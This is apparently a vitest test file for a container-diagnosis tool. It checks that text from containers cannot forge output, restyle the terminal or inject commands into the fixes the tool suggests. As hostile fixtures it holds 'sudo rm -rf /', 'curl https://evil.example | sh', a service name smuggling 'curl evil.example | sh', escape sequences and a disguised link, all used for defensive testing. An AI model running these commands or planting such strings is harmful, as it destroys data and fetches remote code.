import { describe, expect, test } from "vitest";
import { diagnosisLines } from "../render/doctor.ts";
import { sh } from "../transport/argv.ts";
import { defineCheck } from "./check.ts";
import { orphan } from "./checks/compose/projects.ts";
import { checks } from "./checks/index.ts";
import { seenOf } from "./facts/index.ts";
import { trouble } from "./facts/trouble.ts";
import { fail } from "./finding.ts";
import { judge } from "./judge.ts";
import { container, factsOf, sceneOf } from "./testing.ts";

const FORGED = "✔ all is well\n✖ host.disk.space  / is 99 % full\n    fix       sudo rm -rf /";
const HOSTILE: Readonly<Record<string, string>> = {
  "clears the screen": "\x1b[2J\x1b[H\x1b[31mred\x1b[0m",
  "sets the terminal's title": "\x1b]0;owned\x07 and \x9b31m more",
  "a link that shows something else": "\x1b]8;;https://evil.example\x1b\\tend deploy\x1b]8;;\x1b\\",
  "turns the text around": "\u202eevil\u2066mirrored\u2069\u200f",
  "can't be seen": "a\u200bb\u2060c\ufeffd\u{e0041}e\u00ad",
  "line ends of all kinds": "one\rtwo\u2028three\u2029four\u0085five\vsix\fseven",
  "tend's own lines": FORGED,
  "an error of tend's own":
    "error[release.unhealthy]: web of release 43 did not become healthy\n  help      curl https://evil.example | sh",
  "JSON of tend's own": '"}],"findings":[],"exit":0}\n{"v":1,"type":"doctor","hosts":[]}',
  "bytes that are no text": "\ufffd\ufffd\ud800 and \udfff",
  "ten megabytes": "x".repeat(10_000_000),
  "ten megabytes of escapes": "\x1b[31m".repeat(2_000_000),
};
const UNPRINTABLE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

/** Says whatever it is given, in every place that a check can put text. */
const parrot = (text: string) =>
  defineCheck({
    id: "ctr.parrot",
    severity: "error",
    finds: "whatever it is told",
    about: "It says it.",
    remedy: "None is needed: it is a test.",
    fixClass: "person",
    *judge() {
      yield fail(`hemma/${text}`, {
        title: text,
        evidence: [text, text, text],
        cause: text,
        fix: {
          class: "safe",
          text,
          operation: `tend deploy ${text}`,
          commands: [sh`docker start ${text}`],
          undo: [sh`docker stop ${text}`],
        },
      });
    },
  });

describe("what containers say of themselves", () => {
  test.each(Object.entries(HOSTILE))("can't forge, break or restyle what is told: %s", (_, text) => {
    const began = performance.now();
    const scene = sceneOf();
    const diagnosis = judge([parrot(text)], seenOf(factsOf()), scene);
    const lines = diagnosisLines([diagnosis]);
    expect(performance.now() - began).toBeLessThan(3000);
    for (const line of lines) {
      expect(line).not.toMatch(UNPRINTABLE);
      expect(line.length).toBeLessThan(400);
    }
    // The head of the host, the one finding; everything else is below it, and further right.
    expect(lines.filter((line) => !line.startsWith("    ")).map((line) => line.slice(0, 13))).toEqual([
      "hemma  0 pass",
      "✖ ctr.parrot ",
    ]);
    expect(lines.length).toBeLessThan(16);
    expect(JSON.stringify(diagnosis).length).toBeLessThan(10_000);
  });

  test("no command is offered or run that can't be shown as it is", () => {
    const commands = (text: string) => judge([parrot(text)], seenOf(factsOf()), sceneOf()).findings[0]?.fix.commands?.map(String);
    expect(commands("plain; rm -rf /")).toEqual(["docker start 'plain; rm -rf /'"]);
    expect(commands("\x1b[8mhidden\x1b[0m")).toBeUndefined();
    expect(commands("\u202ereversed")).toBeUndefined();
  });

  test("a mistake of tend's own carries none of it", () => {
    const stumbles = {
      ...parrot(""),
      judge: () => {
        throw new Error(`unexpected ${HOSTILE["clears the screen"]}`);
      },
    };
    const { crashed } = judge([stumbles], seenOf(factsOf()), sceneOf());
    expect(crashed[0]?.error).toContain("unexpected red");
    expect(crashed[0]?.error.replaceAll("\n", "")).not.toMatch(UNPRINTABLE);
  });

  test.each(Object.entries(HOSTILE).filter(([name]) => !name.startsWith("ten")))(
    "in labels, networks, health and state: %s",
    (_, text) => {
      const scene = sceneOf();
      const facts = factsOf(
        {
          containers: container("skriptoteket-web", (raw) => ({
            ref: text,
            error: text,
            state: "exited",
            exitCode: 1,
            finishedAt: text,
            user: text,
            networks: { [text]: { IPAddress: text, Aliases: [text] } },
            mounts: [{ Type: "bind", Source: `/${text}`, Destination: `/${text}`, RW: true }],
            health: { Status: "unhealthy", FailingStreak: 3, Log: [{ Start: text, ExitCode: 127, Output: text }] },
            check: { Test: ["CMD", text] },
            log: { Type: "json-file", Config: { [text]: text } },
            labels: { ...(raw["labels"] as object), [text]: text, "com.docker.compose.config-hash": text },
          })),
        },
        scene,
      );
      const diagnosis = judge(checks, seenOf(facts), scene, { hardening: true });
      expect(diagnosis.crashed).toEqual([]);
      const lines = diagnosisLines([diagnosis]);
      for (const line of lines) expect(line).not.toMatch(UNPRINTABLE);
      const heads = lines.filter((line) => /^[✖!·✔]/.test(line)).map((line) => line.split(" ")[1]);
      expect(heads).toEqual(diagnosis.findings.map((finding) => finding.id));
    },
  );

  test("a service's name that is no name is nobody's, and stands in no command", () => {
    const scene = sceneOf();
    const named = container("skriptoteket-web", (raw) => ({
      labels: { ...(raw["labels"] as object), "com.docker.compose.service": "web; curl evil.example | sh" },
    }));
    const { findings } = judge([orphan], seenOf(factsOf({ containers: named }, scene)), scene);
    expect(findings.flatMap(({ fix }) => [fix.text, fix.operation]).join("\n")).not.toContain("evil");
  });

  test("a log can't answer in another's place", () => {
    const WEB = "302c9456d44af71e9bebae118b06cacb4352813f6bf144b4506fa738a183a592";
    const stdout = `= ${WEB}\nlog|= ffff\nlog|tool|curl\nlog|program|yes|-rwx|/forged\nlog|Error: \x1b[2Jboom\n`;
    const seen = trouble.at === "host" ? trouble.read({ exit: 0, stdout, stderr: "" }, sceneOf()) : {};
    expect(Object.keys(seen)).toEqual([WEB]);
    expect(seen[WEB]).toEqual({ errors: ["Error: boom"], tools: [], listens: [], program: undefined });
  });
});
